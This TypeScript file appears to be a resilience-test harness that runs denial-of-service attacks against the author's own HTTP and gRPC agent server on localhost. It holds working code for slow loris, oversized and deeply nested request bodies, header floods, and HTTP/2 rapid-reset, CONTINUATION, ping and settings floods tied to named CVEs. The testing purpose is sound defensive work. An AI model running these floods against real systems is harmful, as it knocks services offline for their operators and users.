import { randomBytes } from "node:crypto";
import type { Socket } from "node:net";
import { setTimeout as pause } from "node:timers/promises";
import { flags, frame, literal, preface, types } from "../../http2-frames.ts";
import { type Attack, head, keepOpen, posting, repeat } from "./hostile-sockets.ts";

/** Attacks on a server. Each one continues until its signal aborts. */
export const abuses: Readonly<Record<string, (attack: Attack) => Promise<void>>> = {
  /** Half of the sockets never end their head, the other half their body. */
  "slow loris on 1,000 sockets": async (attack) => {
    let number = 0;
    await keepOpen(attack, 1_000, (socket) => {
      const isHead = number++ % 2 === 0;
      const begun = ["POST /full HTTP/1.1", "Content-Type: application/json", "Content-Length: 1000"];
      socket.write(isHead ? "POST /full HTTP/1.1\r\nX-Slow: " : head(...begun));
      attack.tally.attempts++;
      drip(socket, attack);
    });
  },

  /**
   * The answers exceed the buffers of the system. Connections start one by one, because the cost of the tasks
   * themselves is not the point here.
   */
  "100 streams and 100 answers that are not read": async (attack) => {
    let number = 0;
    const message = { messageId: "m", role: "ROLE_USER", parts: [{ text: "chunks 300 16000" }] };
    const leave = (socket: Socket): void => {
      const method = number++ % 2 === 0 ? "SendStreamingMessage" : "SendMessage";
      const body = JSON.stringify({ jsonrpc: "2.0", id: 1, method, params: { message } });
      socket.pause().write(posting("/full", body));
      attack.tally.attempts++;
    };
    await keepOpen(attack, 200, leave, 40);
  },

  "bodies that are too large, 1,000 and more": async (attack) => {
    const length = 11 * 1024 * 1024;
    const piece = Buffer.alloc(64 * 1024, " ");
    let number = 0;
    await keepOpen(attack, 16, (socket) => {
      const isChunked = number++ % 2 === 0;
      socket.on("data", (chunk) => {
        const [, status = "none"] = /^HTTP\/1\.1 (\d{3})/.exec(chunk.toString("latin1")) ?? [];
        attack.tally.statuses[status] = (attack.tally.statuses[status] ?? 0) + 1;
      });
      socket.write(
        head(
          "POST /full HTTP/1.1",
          "Content-Type: application/json",
          isChunked ? "Transfer-Encoding: chunked" : `Content-Length: ${length}`,
        ),
      );
      attack.tally.attempts++;
      const framed = isChunked ? Buffer.concat([Buffer.from("10000\r\n"), piece, Buffer.from("\r\n")]) : piece;
      pour(socket, framed, Math.ceil(length / piece.length));
    });
  },

  "JSON that nests deep": async (attack) => {
    const deep = 400_000;
    const bodies = [
      `${"[".repeat(deep)}${"]".repeat(deep)}`,
      `{"jsonrpc":"2.0","id":1,"method":"SendMessage","params":${'{"a":'.repeat(deep)}1${"}".repeat(deep)}}`,
      // As deep as allowed, and wide.
      `[${`${"[".repeat(98)}${"]".repeat(98)},`.repeat(2_000)}1]`,
    ].map((body) => posting("/full", body));
    let number = 0;
    await keepOpen(attack, 8, (socket) => repeat(socket, attack, bodies[number++ % bodies.length]!));
  },

  "floods of headers": async (attack) => {
    const fields = (count: number, length: number): string[] =>
      Array.from({ length: count }, (_, index) => `X-${index}: ${"x".repeat(length)}`);
    const requests = [
      // Just within the limits: many short headers, and a few long ones.
      head("GET /health HTTP/1.1", ...fields(900, 1)),
      head("GET /health HTTP/1.1", ...fields(3, 5_000)),
      // Above the limits, a little and by far.
      head("GET /health HTTP/1.1", ...fields(2, 10_000)),
      head("GET /health HTTP/1.1", ...fields(20_000, 10)),
    ].map((text) => Buffer.from(text));
    let number = 0;
    await keepOpen(attack, 16, (socket) => repeat(socket, attack, requests[number++ % requests.length]!));
  },

  /** CVE-2023-44487. */
  "HTTP/2 streams that are reset at once": async (attack) => {
    const cancel = Buffer.from([0, 0, 0, 8]);
    await keepOpen(attack, 8, (socket) => {
      const fields = requestFields();
      let stream = 1;
      flood(socket, attack, () => {
        const frames: Buffer[] = [];
        for (let number = 0; number < 100; number++, stream += 2)
          frames.push(frame(types.headers, flags.endHeaders, stream, fields), frame(types.reset, 0, stream, cancel));
        attack.tally.attempts += 100;
        return Buffer.concat(frames);
      });
    });
  },

  /** CVE-2024-27983 and similar attacks: a head that never ends. */
  "HTTP/2 heads that go on and on": async (attack) => {
    await keepOpen(attack, 8, (socket) => {
      const more = frame(types.continuation, 0, 1, literal("x", "y".repeat(100)));
      let isBegun = false;
      flood(socket, attack, () => {
        const begin = isBegun ? [] : [frame(types.headers, 0, 1, requestFields())];
        isBegun = true;
        attack.tally.attempts += 100;
        return Buffer.concat([...begin, ...Array.from({ length: 100 }, () => more)]);
      });
    });
  },

  /** CVE-2019-9512 and CVE-2019-9515: each frame requires a response. */
  "HTTP/2 pings and settings": async (attack) => {
    await keepOpen(attack, 8, (socket) => {
      flood(socket, attack, () => {
        attack.tally.attempts += 100;
        const ping = frame(types.ping, 0, 0, randomBytes(8));
        const settings = frame(types.settings, 0, 0, Buffer.alloc(0));
        return Buffer.concat(Array.from({ length: 50 }, () => [ping, settings]).flat());
      });
    });
  },
};

/** Sends a byte every two seconds until the attack or the connection ends. */
function drip(socket: Socket, { over }: Attack): void {
  const dripping = setInterval(() => socket.write("x"), 2_000);
  const stop = (): void => clearInterval(dripping);
  socket.resume().once("close", stop);
  over.addEventListener("abort", stop, { once: true });
}

/** Sends a piece this many times, no faster than the server reads. */
function pour(socket: Socket, piece: Buffer, count: number): void {
  let left = count;
  const more = (): void => {
    while (left > 0 && !socket.destroyed) {
      left--;
      if (!socket.write(piece)) {
        socket.once("drain", more);
        return;
      }
    }
  };
  more();
}

/** Sends HTTP/2 frames as fast as the server reads them. */
function flood(socket: Socket, { over }: Attack, frames: () => Buffer): void {
  socket.resume().write(Buffer.concat([preface, frame(types.settings, 0, 0, Buffer.alloc(0))]));
  const pouring = async (): Promise<void> => {
    while (!socket.destroyed && socket.writable && !over.aborted) {
      const isTaken = socket.write(frames());
      // Let the attacker read the server's responses, too.
      if (isTaken) await pause(1);
      else await new Promise<void>((resolve) => void socket.once("drain", resolve).once("close", resolve));
    }
  };
  void pouring();
}

/** Builds the head of a gRPC request as an HPACK block. */
const requestFields = (): Buffer =>
  Buffer.concat(
    Object.entries({
      ":method": "POST",
      ":scheme": "http",
      ":path": "/lf.a2a.v1.A2AService/ListTasks",
      ":authority": "localhost",
      "content-type": "application/grpc",
      te: "trailers",
    }).map(([name, value]) => literal(name, value)),
  );
